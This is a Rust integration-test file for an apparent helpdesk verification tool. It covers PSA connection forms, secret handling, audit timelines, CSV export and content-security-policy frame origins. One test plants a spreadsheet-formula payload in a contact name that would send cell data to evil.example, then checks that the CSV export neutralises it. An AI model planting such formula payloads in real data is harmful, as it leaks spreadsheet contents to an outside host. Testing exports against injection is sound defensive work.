    let reply = ok(
        &admin,
        url,
        "save_organization",
        &[("id", &org_s), ("name", "Contoso Ltd")],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    assert_eq!(
        app.store
            .organization(org)
            .await
            .expect("read")
            .expect("org")
            .name,
        "Contoso Ltd"
    );
    let renamed = ok(&admin, url, "audit", &[("query[organization]", &org_s)]).await;
    assert!(
        renamed
            .to_string()
            .contains("from \\\"Contoso\\\" to \\\"Contoso Ltd\\\""),
        "{renamed}"
    );
}

/// One Autotask, Freshdesk or HaloPSA connection as the admin form sends it.
struct OtherPsa {
    kind: &'static str,
    product: &'static str,
    /// Every field of the form, pointing at the kind's simulator.
    fields: Vec<(&'static str, String)>,
    /// The secret the API calls use, and the webhook secret.
    api_secret: &'static str,
    webhook_secret: &'static str,
    /// A field with a value the form refuses.
    bad_field: (&'static str, &'static str),
    /// Keeps the simulator running.
    _sim: Box<dyn std::any::Any>,
}

async fn other_psas() -> Vec<OtherPsa> {
    use deskproof::sim::autotask::AutotaskSim;
    use deskproof::sim::freshdesk::FreshdeskSim;
    use deskproof::sim::halopsa::HaloSim;

    let autotask = AutotaskSim::start().await.expect("Autotask simulator");
    let (s, k) = autotask.connection();
    let autotask_fields = vec![
        ("username", s.username),
        ("secret", k.secret),
        ("integration_code", s.integration_code),
        ("webhook_secret", k.webhook_secret),
        ("zone_lookup_url", s.zone_lookup_url.unwrap_or_default()),
        ("note_type", "1".to_owned()),
    ];
    let freshdesk = FreshdeskSim::start().await.expect("Freshdesk simulator");
    let (s, k) = freshdesk.connection();
    let freshdesk_fields = vec![
        ("base_url", s.base_url),
        ("api_key", k.api_key),
        ("webhook_secret", k.webhook_secret),
        ("webhook_header", s.webhook_header.unwrap_or_default()),
    ];
    let halo = HaloSim::start().await.expect("HaloPSA simulator");
    let (s, k) = halo.connection();
    let halo_fields = vec![
        ("auth_url", s.auth_url),
        ("api_url", s.api_url),
        ("tenant", s.tenant.unwrap_or_default()),
        ("client_id", s.client_id),
        ("client_secret", k.client_secret),
        ("webhook_username", s.webhook_username.unwrap_or_default()),
        ("webhook_secret", k.webhook_secret),
    ];
    vec![
        OtherPsa {
            kind: "autotask",
            product: "Autotask",
            fields: autotask_fields,
            api_secret: "secret",
            webhook_secret: "webhook_secret",
            bad_field: ("note_type", "minus one"),
            _sim: Box::new(autotask),
        },
        OtherPsa {
            kind: "freshdesk",
            product: "Freshdesk",
            fields: freshdesk_fields,
            api_secret: "api_key",
            webhook_secret: "webhook_secret",
            bad_field: ("base_url", "contoso.freshdesk.com"),
            _sim: Box::new(freshdesk),
        },
        OtherPsa {
            kind: "halopsa",
            product: "HaloPSA",
            fields: halo_fields,
            api_secret: "client_secret",
            webhook_secret: "webhook_secret",
            bad_field: ("api_url", "ftp://halo.example/api"),
            _sim: Box::new(halo),
        },
    ]
}

/// Saves a connection of `psa` with its fields, after `changes` replace some of them.
async fn save_other(
    admin: &reqwest::Client,
    url: &str,
    id: &str,
    name: &str,
    psa: &OtherPsa,
    changes: &[(&str, &str)],
) -> Value {
    let fields: Vec<(String, String)> = psa
        .fields
        .iter()
        .map(|(f, v)| {
            let value = changes
                .iter()
                .find(|(c, _)| c == f)
                .map_or(v.as_str(), |(_, c)| *c);
            (format!("fields[{f}]"), value.to_owned())
        })
        .collect();
    let mut form: Vec<(&str, &str)> = vec![("id", id), ("kind", psa.kind), ("name", name)];
    form.extend(fields.iter().map(|(f, v)| (f.as_str(), v.as_str())));
    ok(admin, url, "save_connection", &form).await
}

fn connection_named(settings: &Value, name: &str) -> Value {
    settings["connections"]
        .as_array()
        .expect("connections")
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no connection {name}: {settings}"))
        .clone()
}

#[tokio::test]
async fn autotask_freshdesk_and_halopsa_connections_are_saved_and_tested_against_the_simulators() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let key = deskproof::crypto::MasterKey::load_or_create(&app.dir.path().join("master.key"))
        .expect("the master key beside the database");
    for psa in other_psas().await {
        let name = format!("{} set up by an admin", psa.product);

        // A bad field is named and nothing is stored.
        let before = app.count("SELECT COUNT(*) FROM psa_connections").await;
        let (bad, value) = psa.bad_field;
        let reply = save_other(&admin, url, "", &name, &psa, &[(bad, value)]).await;
        let errors = reply["errors"].as_object().expect("errors");
        assert_eq!(errors.len(), 1, "{}: {reply}", psa.kind);
        assert!(errors.contains_key(bad), "{}: {reply}", psa.kind);
        let reply = save_other(&admin, url, "", &name, &psa, &[(psa.webhook_secret, "")]).await;
        assert!(
            reply["errors"].get(psa.webhook_secret).is_some(),
            "{}: a webhook secret is required: {reply}",
            psa.kind
        );
        assert_eq!(
            app.count("SELECT COUNT(*) FROM psa_connections").await,
            before,
            "{}",
            psa.kind
        );

        // Saved: the secrets are set, never shown, and the page names the webhook URL.
        let reply = save_other(&admin, url, "", &name, &psa, &[]).await;
        assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
        let view = settings(&admin, url).await;
        let conn = connection_named(&view, &name);
        let id = conn["id"].as_i64().expect("id");
        let hook = format!("{url}/hooks/{}/{id}", psa.kind);
        assert_eq!(conn["kind"], psa.kind);
        assert_eq!(conn["callback_url"], hook.as_str());
        assert!(
            reply["message"].as_str().is_some_and(|m| m.contains(&hook)),
            "{reply}"
        );
        for secret in [psa.api_secret, psa.webhook_secret] {
            assert_eq!(conn["secrets_set"][secret], true, "{conn}");
            assert!(conn["settings"].get(secret).is_none(), "{conn}");
            let value = &psa
                .fields
                .iter()
                .find(|(f, _)| *f == secret)
                .expect("field")
                .1;
            assert!(!view.to_string().contains(value.as_str()), "{secret} leaks");
        }

        // The connection page shows the webhook URL to configure in the PSA.
        let page = admin
            .get(format!("{url}/settings/connections"))
            .send()
            .await
            .expect("page")
            .text()
            .await
            .expect("html");
        assert!(page.contains(&hook), "{}: the page names {hook}", psa.kind);
        assert!(page.contains("Webhook URL to configure in"), "{page}");

        // Test connection reads the PSA with the stored credentials.
        let id = id.to_string();
        let org = app.world.organization_id.to_string();
        let reply = ok(
            &admin,
            url,
            "save_mapping",
            &[
                ("connection_id", &id),
                ("company_id", "contoso"),
                ("organization_id", &org),
            ],
        )
        .await;
        assert_eq!(
            reply["errors"]["company_id"],
            format!(
                "A {} company id is a number (the company's record id).",
                psa.product
            )
        );
        let reply = ok(&admin, url, "test_connection", &[("id", &id)]).await;
        assert_eq!(reply["ok"], true, "{reply}");
        assert_eq!(
            reply["message"],
            format!("Connected: {} accepted the credentials.", psa.product)
        );

        // One-click connect stays ConnectWise's.
        let (status, body) = call(&admin, url, "connect_psa", &[("id", &id)]).await;
        assert_eq!(status, 400, "{body}");
        assert!(body.to_string().contains("ConnectWise only"), "{body}");

        // A wrong secret, with the webhook secret left blank: Test names the refusal and the
        // webhook secret is kept as stored.
        let reply = save_other(
            &admin,
            url,
            &id,
            &name,
            &psa,
            &[
                (psa.api_secret, "wrong-secret-1234"),
                (psa.webhook_secret, ""),
            ],
        )
        .await;
        assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
        let reply = ok(&admin, url, "test_connection", &[("id", &id)]).await;
        assert_eq!(reply["ok"], false, "{reply}");
        assert_eq!(
            reply["message"],
            format!(
                "{} refused: the PSA rejected the API credentials",
                psa.product
            ),
            "{reply}"
        );
        let row = app
            .store
            .psa_connection(id.parse().expect("id"))
            .await
            .expect("read")
            .expect("connection");
        let stored: serde_json::Map<String, Value> =
            serde_json::from_str(key.open(&row.secrets_sealed).expect("opens").expose())
                .expect("secrets");
        let webhook = &psa
            .fields
            .iter()
            .find(|(f, _)| *f == psa.webhook_secret)
            .expect("field")
            .1;
        assert_eq!(stored[psa.webhook_secret], webhook.as_str());
        assert_eq!(stored[psa.api_secret], "wrong-secret-1234");
    }
}

/// The CSV export of `query` as the admin downloads it: its records after the header.
async fn export(admin: &reqwest::Client, url: &str, query: &str) -> Vec<csv::StringRecord> {
    let res = admin
        .get(format!("{url}/audit/export.csv?{query}"))
        .send()
        .await
        .expect("export");
    assert_eq!(res.status(), 200);
    let body = res.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader
            .headers()
            .expect("headers")
            .iter()
            .collect::<Vec<_>>(),
        deskproof::admin::AUDIT_CSV_HEADER
    );
    reader.records().map(|r| r.expect("record")).collect()
}

/// The server-rendered HTML of an admin page, with Leptos' markers taken out.
async fn page(admin: &reqwest::Client, url: &str, path: &str) -> String {
    let res = admin
        .get(format!("{url}{path}"))
        .send()
        .await
        .expect("page");
    assert_eq!(res.status(), 200, "{path}");
    res.text()
        .await
        .expect("html")
        .replace("<!>", "")
        .replace("<!-- -->", "")
}

#[tokio::test]
async fn a_tickets_timeline_keeps_apart_tickets_of_two_psas_with_the_same_number() {
    // Arrange: ticket 1234 in ConnectWise and ticket 1234 in Autotask, a push on each, and an
    // entry from before connections were recorded.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let at = &app.world.autotask;
    let cw_ticket = app
        .new_ticket(app.world.contacts.alex, "ConnectWise reset")
        .await;
    let at_ticket = at
        .sim
        .create_ticket(at.company, Some(at.alex), "Autotask reset")
        .await
        .id;
    assert_eq!(
        cw_ticket, at_ticket,
        "both PSAs number their first ticket alike"
    );
    let ticket = cw_ticket.to_string();
    let cw_token = app.link_token(cw_ticket).await;
    let at_notes = support::flow::wait_until(
        "autotask link note",
        || at.sim.notes(at_ticket),
        |notes| notes.iter().any(|n| n.description.contains("/verify/")),
    )
    .await;
    let at_token = at_notes
        .iter()
        .find_map(|n| support::flow::token_in(&n.description))
        .expect("autotask link");
    assert_eq!(app.send_push(&cw_token).await["state"], "pushed");
    app.world
        .duo
        .wait_for_push("alex.example", Duration::from_secs(5))
        .await
        .expect("push");
    app.world
        .duo
        .approve_latest("alex.example")
        .expect("approve");
    app.wait_for_outcome(&cw_token).await;
    assert_eq!(app.send_push(&at_token).await["state"], "pushed");
    app.store
        .append_audit(&deskproof::storage::AuditEntry {
            actor: "Old Tech".into(),
            action: "push sent".into(),
            ticket: Some(ticket.clone()),
            ..Default::default()
        })
        .await
        .expect("old entry");
    let (cw, at_id) = (
        app.world.connection_id.to_string(),
        at.connection_id.to_string(),
    );

    // Act
    let timeline = |connection: &str| {
        let connection = connection.to_owned();
        let admin = admin.clone();
        let ticket = ticket.clone();
        async move {
            let rows = ok(
                &admin,
                url,
                "ticket_timeline",
                &[("connection", &connection), ("ticket", &ticket)],
            )
            .await;
            rows.as_array().expect("rows").clone()
        }
    };
    let on_cw = timeline(&cw).await;
    let on_at = timeline(&at_id).await;
    let unrecorded = timeline("").await;
    let listing = ok(&admin, url, "audit", &[("query[ticket]", &ticket)]).await;
    let audit_page = page(&admin, url, &format!("/audit?ticket={ticket}")).await;
    let at_page = page(&admin, url, &format!("/audit/ticket/{at_id}/{ticket}")).await;
    let cw_csv = export(&admin, url, &format!("connection={cw}&ticket={ticket}")).await;
    let old_csv = export(&admin, url, &format!("connection=none&ticket={ticket}")).await;

    // Assert
    let actions = |rows: &[Value]| -> Vec<String> {
        rows.iter()
            .map(|r| r["action"].as_str().unwrap_or_default().to_owned())
            .collect()
    };
    assert_eq!(actions(&on_cw), ["push sent", "push answered"], "{on_cw:?}");
    assert!(on_cw
        .iter()
        .all(|r| r["connection_id"] == app.world.connection_id));
    assert_eq!(actions(&on_at), ["push sent"], "{on_at:?}");
    assert_eq!(on_at[0]["connection_id"], at.connection_id);
    assert_eq!(on_at[0]["connection"], "Autotask (simulator)", "{on_at:?}");
    assert_eq!(actions(&unrecorded), ["push sent"]);
    assert_eq!(unrecorded[0]["actor"], "Old Tech");
    // The audit table links each entry to its own connection's timeline.
    let rows = listing["rows"].as_array().expect("rows");
    assert_eq!(rows.len(), 4, "{listing}");
    for link in [
        format!("href=\"/audit/ticket/{cw}/{ticket}\""),
        format!("href=\"/audit/ticket/{at_id}/{ticket}\""),
        format!("href=\"/audit/ticket/{ticket}\""),
    ] {
        assert!(audit_page.contains(&link), "{link} missing");
    }
    assert!(
        at_page.contains("PSA connection: Autotask (simulator)"),
        "{at_page}"
    );
    assert_eq!(cw_csv.len(), 2);
    assert!(cw_csv
        .iter()
        .all(|r| r.get(11) == Some("ConnectWise (simulator)")));
    assert_eq!(old_csv.len(), 1);
    assert_eq!(old_csv[0].get(2), Some("Old Tech"));
}

#[tokio::test]
async fn a_contact_named_like_a_formula_is_exported_as_text() {
    // Arrange: a contact whose name a spreadsheet would run; no Duo user matches them.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    let contact = app.world.cw.add_contact_at(
        Some(app.world.company),
        name,
        "Doe",
        "formula@contoso.example",
    );
    let ticket = app.new_ticket(contact, "Formula").await;
    let token = app.link_token(ticket).await;
    assert_eq!(app.send_push(&token).await["state"], "refused");

    // Act
    let records = export(&admin, &app.url, &format!("ticket={ticket}")).await;

    // Assert
    let refused = records
        .iter()
        .find(|r| r.get(3) == Some("push refused"))
        .expect("the refusal is exported");
    assert_eq!(refused.get(6), Some(format!("'{name} Doe").as_str()));
    assert!(records
        .iter()
        .flat_map(|r| r.iter())
        .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
}

#[tokio::test]
async fn the_audit_page_says_when_it_shows_only_the_newest_entries_and_the_export_has_all() {
    // Arrange: more entries than the page shows.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let limit = deskproof::admin::AUDIT_LIMIT;
    sqlx::query(
        "INSERT INTO audit_log (actor, action, detail) \
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $1) \
         SELECT 'Bulk Tech', 'bulk entry', CAST(i AS TEXT) FROM n",
    )
    .bind(limit + 150)
    .execute(&app.db)
    .await
    .expect("bulk entries");
    let stored = app.count("SELECT COUNT(*) FROM audit_log").await;
    let bulk = limit + 150;

    // Act
    let all = ok(&admin, &app.url, "audit", &[]).await;
    let filtered = ok(&admin, &app.url, "audit", &[("query[technician]", "casey")]).await;
    let html = page(&admin, &app.url, "/audit").await;
    let records = export(&admin, &app.url, "").await;
    let bulk_only = export(&admin, &app.url, "technician=bulk").await;

    // Assert
    assert_eq!(all["rows"].as_array().map(Vec::len), Some(limit as usize));
    assert_eq!(all["total"], stored);
    assert_eq!(all["limit"], limit);
    assert_eq!(filtered["total"], 0, "{filtered}");
    assert!(
        html.contains(&format!(
            "Showing the newest {limit} of {stored} entries; narrow the filters"
        )),
        "the page says it is cut short"
    );
    assert_eq!(records.len() as i64, stored, "the export has every entry");
    assert_eq!(bulk_only.len() as i64, bulk);
    // Newest first, each entry once.
    let ids: Vec<i64> = records
        .iter()
        .map(|r| r.get(0).and_then(|v| v.parse().ok()).expect("id"))
        .collect();
    assert!(
        ids.windows(2).all(|w| w[0] > w[1]),
        "newest first, no repeats"
    );
}

#[tokio::test]
async fn a_connectwise_connection_from_the_setup_file_keeps_its_pod_origins_when_saved_in_the_form()
{
    // Arrange: a connection stored by `deskproof setup` with pod origins.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let cw = app.world.cw.client_config();
    let file = app.dir.path().join("setup.toml");
    std::fs::write(
        &file,
        format!(
            r#"
[[connectwise]]
name = "From setup"
base_url = "{base}"
company_id = "{company}"
public_key = "{public}"
private_key = "{private}"
client_id = "{client}"
pod_origins = ["https://na.myconnectwise.net", "{screen}"]
"#,
            base = cw.base_url,
            company = cw.company_id,
            public = cw.public_key,
            private = cw.private_key.expose(),
            client = cw.client_id,
            screen = app.world.cw.url(),
        ),
    )
    .expect("setup file");
    let key = deskproof::crypto::MasterKey::load_or_create(&app.dir.path().join("master.key"))
        .expect("master key");
    deskproof::setup::SetupFile::read(&file)
        .expect("valid setup file")
        .apply(&app.store, &key, url)
        .await
        .expect("applied");
    let view = connection_named(&settings(&admin, url).await, "From setup");
    let id = view["id"].as_i64().expect("id").to_string();
    let shown = view["settings"]["pod_origins"]
        .as_str()
        .expect("pod origins shown")
        .to_owned();
    let ancestors = |id: String| async move {
        let res = reqwest::get(format!("{url}/pod/connectwise/{id}"))
            .await
            .expect("pod page");
        assert_eq!(res.status(), 200);
        // The page's policy has more directives; this test is about who may frame it.
        res.headers()
            .get("content-security-policy")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("frame-ancestors"))
            .unwrap_or_default()
            .to_owned()
    };
    let form = |pod_origins: Option<&str>| {
        let mut form: Vec<(String, String)> = vec![
            ("id".into(), id.clone()),
            ("kind".into(), "connectwise".into()),
            ("name".into(), "From setup".into()),
        ];
        for name in ["base_url", "company_id", "public_key", "client_id"] {
            let value = view["settings"][name]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            form.push((format!("fields[{name}]"), value));
        }
        form.push(("fields[private_key]".into(), String::new()));
        if let Some(origins) = pod_origins {
            form.push(("fields[pod_origins]".into(), origins.to_owned()));
        }
        form
    };
    let save = |form: Vec<(String, String)>| {
        let admin = admin.clone();
        async move {
            let pairs: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            ok(&admin, url, "save_connection", &pairs).await
        }
    };

    // Act: saved as the page sends it, then by a form that does not know the field.
    let as_shown = save(form(Some(&shown))).await;
    let after_page = ancestors(id.clone()).await;
    let without_field = save(form(None)).await;
    let after_old_form = ancestors(id.clone()).await;
    let bad = save(form(Some("https://na.myconnectwise.net/v4_6_release"))).await;
    let after_bad = ancestors(id.clone()).await;
    let changed = save(form(Some(
        "https://eu.myconnectwise.net,  https://eu.myconnectwise.net/",
    )))
    .await;
    let after_change = ancestors(id.clone()).await;

    // Assert
    let expected = format!(
        "frame-ancestors https://na.myconnectwise.net {}",
        app.world.cw.url()
    );
    assert_eq!(
        shown,
        format!("https://na.myconnectwise.net {}", app.world.cw.url())
    );
    for reply in [&as_shown, &without_field, &changed] {
        assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    }
    assert_eq!(after_page, expected);
    assert_eq!(after_old_form, expected);
    assert!(
        bad["errors"]["pod_origins"]
            .as_str()
            .is_some_and(|e| e.contains("scheme://host[:port] only")),
        "{bad}"
    );
    assert_eq!(after_bad, expected, "a refused form stores nothing");
    assert_eq!(after_change, "frame-ancestors https://eu.myconnectwise.net");
}

#[tokio::test]
async fn moving_a_company_to_another_organization_names_where_it_was() {
    // Arrange: company 4242 of the demo connection belongs to Northwind.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    for name in ["Northwind", "Southwind"] {
        ok(
            &admin,
            url,
            "save_organization",
            &[("id", ""), ("name", name)],
        )
        .await;
    }
    let s = settings(&admin, url).await;
    let (north, south) = (
        org_id(&s, "Northwind").to_string(),
        org_id(&s, "Southwind").to_string(),
    );
    let connection = app.world.connection_id.to_string();
    let map = |org: String| {
        let (admin, connection) = (admin.clone(), connection.clone());
        async move {
            ok(
                &admin,
                url,
                "save_mapping",
                &[
                    ("connection_id", connection.as_str()),
                    ("company_id", "4242"),
                    ("organization_id", org.as_str()),
                ],
            )
            .await
        }
    };
    let first = map(north).await;

    // Act
    let moved = map(south).await;

    // Assert
    assert_eq!(first["message"], "Company 4242 now belongs to Northwind.");
    assert!(
        moved["message"]
            .as_str()
            .is_some_and(|m| m.contains("now belongs to Southwind (it belonged to Northwind)")),
        "{moved}"
    );
    let audited = app
        .count(
            "SELECT COUNT(*) FROM audit_log WHERE action = 'company mapped' \
             AND detail LIKE '%company 4242 from \"Northwind\" to \"Southwind\"'",
        )
        .await;
    assert_eq!(audited, 1);
}

#[tokio::test]
async fn a_removed_mapping_stops_verifying_the_companys_new_tickets_and_is_audited() {
    // Arrange: the demo company is mapped to Contoso.
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let connection = app.world.connection_id.to_string();
    let company = app.world.company.to_string();
    let form = [
        ("connection_id", connection.as_str()),
        ("company_id", company.as_str()),
    ];

    // Act
    let removed = ok(&admin, url, "remove_mapping", &form).await;
    let again = call(&admin, url, "remove_mapping", &form).await;
    let ticket = app
        .new_ticket(app.world.contacts.alex, "Reset after unmapping")
        .await;

    // Assert
    assert!(
        removed["message"]
            .as_str()
            .is_some_and(|m| m.contains(&format!("Company {company} of ")))
            && removed["message"]
                .as_str()
                .is_some_and(|m| m.contains("no longer belongs to Contoso")),
        "{removed}"
    );
    assert_eq!(again.0, 400, "{:?}", again.1);
    assert!(
        again.1.as_str().is_some_and(
            |b| b.contains(&format!("Company {company} of ")) && b.contains("is not mapped.")
        ),
        "{:?}",
        again.1
    );
    let s = settings(&admin, url).await;
    let still_mapped = s["mappings"].as_array().expect("mappings").iter().any(|m| {
        m["company_id"] == company.as_str() && m["connection_id"] == app.world.connection_id
    });
    assert!(!still_mapped, "{s}");
    let notes = app.wait_for_note(ticket, "is not mapped").await;
    assert!(
        support::flow::token_in(&notes[0].text).is_none(),
        "{notes:?}"
    );
    let audited = app
        .count(&format!(
            "SELECT COUNT(*) FROM audit_log WHERE action = 'company unmapped' \
             AND organization_id = {} AND detail LIKE '%company {company} from \"Contoso\"'",
            app.world.organization_id
        ))
        .await;
    assert_eq!(audited, 1, "one entry: the second removal changed nothing");
}

#[tokio::test]
async fn removing_a_mapping_of_an_unknown_connection_is_refused_and_changes_nothing() {
    // Arrange
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let company = app.world.company.to_string();
    let before = app.count("SELECT COUNT(*) FROM company_mappings").await;

    // Act
    let (status, body) = call(
        &admin,
        &app.url,
        "remove_mapping",
        &[("connection_id", "999"), ("company_id", company.as_str())],
    )
    .await;

    // Assert
    assert_eq!(status, 400, "{body}");
    assert!(
        body.as_str()
            .is_some_and(|b| b.contains("Unknown PSA connection.")),
        "{body}"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM company_mappings").await,
        before
    );
}
